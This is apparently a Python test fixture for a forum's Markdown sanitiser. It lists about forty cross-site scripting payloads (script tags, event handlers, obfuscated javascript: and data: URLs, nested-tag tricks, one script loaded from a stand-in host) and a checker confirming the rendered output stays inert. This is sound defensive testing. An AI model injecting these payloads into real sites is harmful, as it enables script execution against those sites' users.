"""Hostile inputs: each must come out inert (no script, handler, dangerous URL or raw tag)."""

XSS_CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    '[x](https://example.org/" onmouseover="alert(1))',
    '<a href="https://example.org" onclick="alert(1)">x</a>',
    "<b onmouseover=alert(1)>hover</b>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<div><p><em>nested <script>alert(1)</script></em></p></div>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<style>body{display:none}</style>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<form action=javascript:alert(1)><button>x</button></form>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "[x]: javascript:alert(1)\n\n[link][x]",
    '<https://example.org/"onmouseover="alert(1)>',
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "> <img src=x onerror=alert(1)>",
    "- <svg/onload=alert(1)>",
    "**<a href=javascript:alert(1)>bold</a>**",
    "<!-- --><script>alert(1)</script><!-- -->",
]
MARKER = "alert(1)"


def assert_inert(html: str) -> None:
    """Only the Markdown subset's tags, only safe attributes and URLs."""
    from html.parser import HTMLParser

    from discussions.markdown import ALLOWED_TAGS

    class Checker(HTMLParser):
        def handle_starttag(self, tag, attrs):
            assert tag in ALLOWED_TAGS, (tag, html)
            for name, value in attrs:
                assert name in {"href", "rel", "start"}, (name, html)
                if name == "href":
                    assert value.startswith(("http://", "https://", "mailto:", "/tokens/")), html

        def handle_comment(self, data):
            raise AssertionError(f"comment kept: {html}")

    Checker().feed(html)
